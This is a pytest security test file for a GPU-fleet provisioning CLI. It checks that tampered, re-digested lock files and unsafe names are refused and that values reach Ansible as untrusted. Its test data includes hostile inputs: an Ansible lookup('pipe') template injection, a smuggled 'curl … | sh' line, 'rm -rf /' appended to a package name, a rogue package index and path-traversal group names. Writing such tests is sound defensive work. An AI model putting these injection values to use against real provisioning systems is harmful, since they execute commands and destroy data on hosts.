"""Plans, fleets and command-line values are untrusted input (issue: "Safe on a live fleet").

Crafted lock files are refused with exit 2 and the field named, before anything is rendered or
run; every string reaches Ansible tagged !unsafe, so Ansible never templates it. Plans come from the
fixture catalogue (tests/fixtures/compat): what is refused does not depend on today's data."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from provision.errors import InputError
from provision.fleet.extravars import dump_unsafe_yaml, to_extravars
from provision.plan.model import Plan, read_plan

INJECTION = "{{ lookup('pipe', 'touch MARKER') }}"

pytestmark = pytest.mark.usefixtures("on_fixture_catalogue")

GOOD_INVENTORY = {"all": {"children": {"a100": {"hosts": {"n1": {"ansible_host": "127.0.0.1", "ansible_port": 2201}}}}}}


@pytest.fixture
def lock(cli, tmp_path) -> dict:
    path = tmp_path / "good.lock.json"
    r = cli("plan", "--os", "ubuntu22.04", "--gpu", "h100-sxm", "--framework", "pytorch==2.5.1", "--lock", str(path))
    assert r.code == 0, r
    return json.loads(path.read_text())


def redigest(doc: dict) -> dict:
    """What an attacker can do: recompute the digest over the edited plan (a digest is not a signature)."""
    body = {k: v for k, v in doc.items() if k != "digest"}
    from provision.plan.model import _load

    doc["digest"] = _load(Plan, body).digest()
    return doc


def edit(doc: dict, path: str, value) -> dict:
    *parents, last = path.split(".")
    node = doc
    for p in parents:
        node = node[int(p)] if isinstance(node, list) else node[p]
    node[last] = value
    return doc


CRAFTED = [
    # (what is changed, new value, digest handling, what the error names)
    ("driver.version", INJECTION, "redigest", "driver.version"),
    ("driver.version", INJECTION, "drop", "has no digest"),
    ("driver.version", INJECTION, "keep", "driver.version"),
    ("gpu.id", "h100-sxm\nRUN curl http://127.0.0.1/x | sh", "redigest", "gpu.id"),
    (
        "framework.requirement",
        "torch==2.5.1 --extra-index-url http://127.0.0.1/evil",
        "redigest",
        "framework.requirement",
    ),
    ("framework.requirement", "torch @ https://127.0.0.1/torch.whl", "redigest", "framework.requirement"),
    ("driver.packages.0.name", "nvidia-open; rm -rf /", "redigest", "driver.packages.0.name"),
    ("base_image", "nvidia/cuda:12.4.1-base-ubuntu22.04\nRUN id", "redigest", "base_image"),
    ("framework.index_url", "http://127.0.0.1/simple", "redigest", "framework.index_url"),
    ("os.name", "Ubuntu {% raw %}", "redigest", "os.name"),
    ("surprise", "x", "redigest", "'surprise' was unexpected"),
]


@pytest.mark.parametrize(("field", "value", "digest", "named"), CRAFTED)
def test_crafted_locks_are_refused_naming_the_field(tmp_path, lock, field, value, digest, named):
    doc = edit(lock, field, value)
    if digest == "redigest" and field != "surprise":
        redigest(doc)
    elif digest == "drop":
        del doc["digest"]
    path = tmp_path / "crafted.lock.json"
    path.write_text(json.dumps(doc))
    with pytest.raises(InputError) as info:
        read_plan(path)
    assert named in info.value.message
    assert info.value.exit_code == 2
    assert "\n" not in info.value.message, "one line, whatever the value held"


def test_a_good_lock_passes_and_round_trips(tmp_path, lock):
    path = tmp_path / "p.json"
    path.write_text(json.dumps(lock))
    assert read_plan(path).to_dict() == lock


@pytest.mark.parametrize("command", ["apply", "render", "build", "verify"])
def test_commands_refuse_a_crafted_lock_before_acting(cli, tmp_path, lock, command):
    doc = redigest(edit(lock, "driver.version", INJECTION))
    crafted = tmp_path / "crafted.lock.json"
    crafted.write_text(json.dumps(doc))
    inv = tmp_path / "inv.yml"
    inv.write_text(yaml.safe_dump(GOOD_INVENTORY))
    out = tmp_path / "out"
    args = {
        "apply": ["apply", "-i", str(inv), "--plan", str(crafted), "--run-dir", str(out)],
        "render": ["render", "--plan", str(crafted), "--out", str(out)],
        "build": ["build", "--plan", str(crafted)],
        "verify": ["verify", "--local", "--plan", str(crafted)],
    }[command]
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        r = cli(*args)
    finally:
        os.chdir(cwd)
    assert r.code == 2, r
    assert "driver.version" in r.err
    assert "Traceback" not in r.err
    assert not out.exists(), "nothing rendered, no run folder"
    assert not (tmp_path / "MARKER").exists()


@pytest.mark.parametrize("group", ["../../../escaped", "a/b", "..", "a.b", "x y", "-lead"])
def test_fleet_group_names_cannot_leave_the_run_folder(cli, tmp_path, group):
    inv = tmp_path / "inv.yml"
    inv.write_text(yaml.safe_dump(GOOD_INVENTORY))
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text(yaml.safe_dump({"groups": {group: {"os": "rocky9", "gpu": "a100-pcie"}}}))
    run_dir = tmp_path / "runs" / "r1"
    r = cli("apply", "-i", str(inv), "--fleet", str(fleet), "--run-dir", str(run_dir))
    assert r.code == 2, r
    assert "is not a usable group name" in r.err
    assert not (tmp_path / "runs").exists()
    assert not (tmp_path / "escaped.yml").exists()


def test_render_refuses_a_base_image_with_a_newline(cli, tmp_path):
    r = cli(
        "render", "--os", "ubuntu22.04", "--gpu", "h100-sxm", "--out", str(tmp_path / "o"),
        "--base-image", "nvidia/cuda:12.4.1-base-ubuntu22.04\nRUN id",
    )  # fmt: skip
    assert r.code == 2, r
    assert "--base-image" in r.err
    assert not (tmp_path / "o").exists()


def test_every_string_reaches_ansible_untrusted(fixture_matrix):
    from ansible.parsing.yaml.loader import AnsibleLoader
    from ansible.template import is_trusted_as_template

    from provision.plan.model import PlanRequest
    from provision.plan.resolve import resolve

    gpu = fixture_matrix.gpu("h100-sxm")
    profiles = fixture_matrix.mig_set(gpu.mig).profiles
    layout = ",".join(p.name for p in sorted(profiles, key=lambda p: -p.compute_slices)[1:])  # all but the whole GPU
    assert "," in layout, "a layout of two profiles"
    plan = resolve(fixture_matrix, PlanRequest("rocky9", gpu.id, mig=layout))
    assert plan.mig is not None
    text = dump_unsafe_yaml({**to_extravars(plan), "site_value": INJECTION})
    loaded = AnsibleLoader(text).get_single_data()
    strings = []

    def walk(v):
        if isinstance(v, str):
            strings.append(v)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)

    walk(loaded)
    assert len(strings) > 20
    assert not [s for s in strings if "{" in s and is_trusted_as_template(s)]
    assert loaded["site_value"] == INJECTION
    assert loaded == {**to_extravars(plan), "site_value": INJECTION}, "every value keeps its type ('9' stays a string)"


def test_ansible_playbook_prints_an_injected_value_and_runs_nothing(tmp_path):
    """The real consumer: ansible-playbook reads the extra vars file as apply writes it."""
    marker = tmp_path / "MARKER"
    value = INJECTION.replace("MARKER", str(marker))
    (tmp_path / "vars.yml").write_text(dump_unsafe_yaml({"provision_driver_version": value}))
    (tmp_path / "play.yml").write_text(
        "- hosts: localhost\n  connection: local\n  gather_facts: false\n  tasks:\n"
        "    - ansible.builtin.debug:\n        msg: 'version={{ provision_driver_version }}'\n"
    )
    exe = Path(sys.executable).with_name("ansible-playbook")
    proc = subprocess.run(
        [str(exe), "-i", "localhost,", str(tmp_path / "play.yml"), "-e", f"@{tmp_path / 'vars.yml'}"],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env={**os.environ, "ANSIBLE_NOCOLOR": "1", "ANSIBLE_LOCALHOST_WARNING": "False"},
        cwd=tmp_path,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "version={{ lookup(" in proc.stdout
    assert not marker.exists()


# -- a re-digested lock is also held to itself and to the catalogue (review item A) -----------------
# The digest is no signature: these locks are edited and re-digested, as an attacker can. b200 and
# gh200 are live-catalogue GPUs (the fixture catalogue has no aarch64 GPU and no Subnet Manager).


@pytest.fixture
def live_lock(cli, tmp_path, on_fixture_catalogue, monkeypatch):
    from support import COMPAT

    monkeypatch.setenv("PROVISION_COMPAT_DIR", str(COMPAT))  # plan and check on the live catalogue

    def make(gpu: str) -> dict:
        path = tmp_path / f"{gpu}.lock.json"
        assert cli("plan", "--os", "ubuntu22.04", "--gpu", gpu, "--lock", str(path), "--format", "json").code == 0
        return json.loads(path.read_text())

    return make


def inventory_check(cli, tmp_path, doc: dict):
    (tmp_path / "inv.ini").write_text("[g]\nn1 ansible_host=127.0.0.1\n")
    (tmp_path / "lock.json").write_text(json.dumps(doc))
    return cli("inventory", "check", "-i", str(tmp_path / "inv.ini"), "--plan", str(tmp_path / "lock.json"))


def delete(doc: dict, path: str) -> dict:
    *parents, last = path.split(".")
    node = doc
    for p in parents:
        node = node[p]
    del node[last]
    return doc


INCONSISTENT = [
    # (gpu, field, new value or DELETE, what the one-line error says)
    ("b200", "os.repo_arch", "ppc64le", "os.repo_arch: 'ppc64le' is not one of ['x86_64', 'sbsa']"),
    ("b200", "platform", "linux/arm64", "platform: 'linux/arm64' is not the image platform of x86_64 hosts"),
    ("b200", "os.arch", "aarch64", "os.repo_arch: 'x86_64' is not the NVIDIA repository directory of aarch64 hosts"),
    ("b200", "gpu.nvswitch", False, "gpu.nvswitch: False contradicts fabric_manager (nvidia-fabricmanager)"),
    ("b200", "subnet_manager.service", "sshd", "subnet_manager.service: 'sshd' is not one of ['nvidia-fabricmanager']"),
    ("b200", "subnet_manager.kernel_modules", ["floppy"], "subnet_manager.kernel_modules.0: 'floppy' is not one of"),
    (
        "b200",
        "subnet_manager.packages",
        ["openssh-server"],
        "subnet_manager.packages.0: 'openssh-server' is not one of",
    ),
    ("gh200", "platform", "DELETE", "os.repo_arch: 'x86_64' is not the NVIDIA repository directory of aarch64 hosts"),
]


@pytest.mark.parametrize(("gpu", "field", "value", "says"), INCONSISTENT)
def test_an_inconsistent_redigested_lock_is_refused(cli, tmp_path, live_lock, gpu, field, value, says):
    doc = live_lock(gpu)
    assert inventory_check(cli, tmp_path, doc).code == 0, "the lock as written passes"
    if value == "DELETE":
        delete(delete(doc, field), "os.repo_arch")  # gh200: platform and os.repo_arch both deleted
    else:
        edit(doc, field, value)
    r = inventory_check(cli, tmp_path, redigest(doc))
    assert r.code == 2, r
    assert says in r.err
    assert "Traceback" not in r.err
    (error,) = [line for line in r.err.splitlines() if line.startswith("error")]
    assert says in error, "one line names the field"
    with pytest.raises(InputError, match=field.split(".")[0] if value != "DELETE" else "os.repo_arch"):
        read_plan(tmp_path / "lock.json")  # render, build and verify read it the same way


CATALOGUE = [
    # in the closed vocabulary and consistent with themselves, but not the catalogue's rows for the lock
    ("b200", "subnet_manager.requires", ["infiniband-diags"],
     "subnet_manager.requires: ['infiniband-diags'], but the catalogue says ['infiniband-diags', 'libibumad3'] for R"),
    ("b200", "driver.packages.0.name", "openssh-server", "driver.packages: ['openssh-server'"),
    ("b200", "os.kernel_headers", ["openssh-server"],
     "os.kernel_headers: ['openssh-server'], but the catalogue says ['linux-headers-{kernel}'] for ubuntu22.04"),
    ("b200", "container_toolkit.packages.0.name", "openssh-server", "container_toolkit.packages: ['openssh-server'"),
    ("b200", "fabric_manager", None, "gpu.nvswitch: True contradicts fabric_manager (none)"),
    ("b200", "subnet_manager", None, "subnet_manager: absent, but the catalogue plans a Subnet Manager for b200"),
    ("b200", "os.nvidia_repo", "rhel9", "os.nvidia_repo: 'rhel9', but the catalogue says 'ubuntu2204' for ubuntu22.04"),
]  # fmt: skip


@pytest.mark.parametrize(("gpu", "field", "value", "says"), CATALOGUE)
def test_a_lock_is_held_to_the_catalogue_rows(cli, tmp_path, live_lock, gpu, field, value, says):
    doc = redigest(edit(live_lock(gpu), field, value))
    r = inventory_check(cli, tmp_path, doc)
    assert r.code == 2, r
    assert says in r.err
    (error,) = [line for line in r.err.splitlines() if line.startswith("error")]
    assert says in error, "one line names the field and what the catalogue says"


def test_a_gh200_lock_moved_to_x86_64_whole_is_refused_by_the_catalogue(cli, tmp_path, live_lock):
    """arch, repo_arch and platform all deleted: consistent with itself (x86_64), not with the GPU."""
    doc = live_lock("gh200")
    for field in ("platform", "os.arch", "os.repo_arch"):
        delete(doc, field)
    redigest(doc)
    (tmp_path / "x.json").write_text(json.dumps(doc))
    assert read_plan(tmp_path / "x.json").os.arch == "x86_64"  # no catalogue: nothing contradicts
    r = inventory_check(cli, tmp_path, doc)
    assert r.code == 2, r
    assert "os.arch: 'x86_64', but the catalogue says gh200 is built into aarch64 hosts" in r.err


def test_apply_refuses_a_lock_the_catalogue_contradicts_before_writing(cli, tmp_path, live_lock):
    doc = redigest(edit(live_lock("b200"), "subnet_manager.requires", ["infiniband-diags"]))
    (tmp_path / "inv.ini").write_text("[g]\nn1 ansible_host=127.0.0.1\n")
    (tmp_path / "lock.json").write_text(json.dumps(doc))
    out = tmp_path / "run"
    r = cli("apply", "-i", str(tmp_path / "inv.ini"), "--plan", str(tmp_path / "lock.json"), "--run-dir", str(out))
    assert r.code == 2, r
    assert "subnet_manager.requires" in r.err
    assert not out.exists()


def test_fixture_locks_pass_the_catalogue_they_were_made_from(cli, tmp_path, lock):
    """No false refusals: a lock of the fixture catalogue, checked with it."""
    assert inventory_check(cli, tmp_path, lock).code == 0
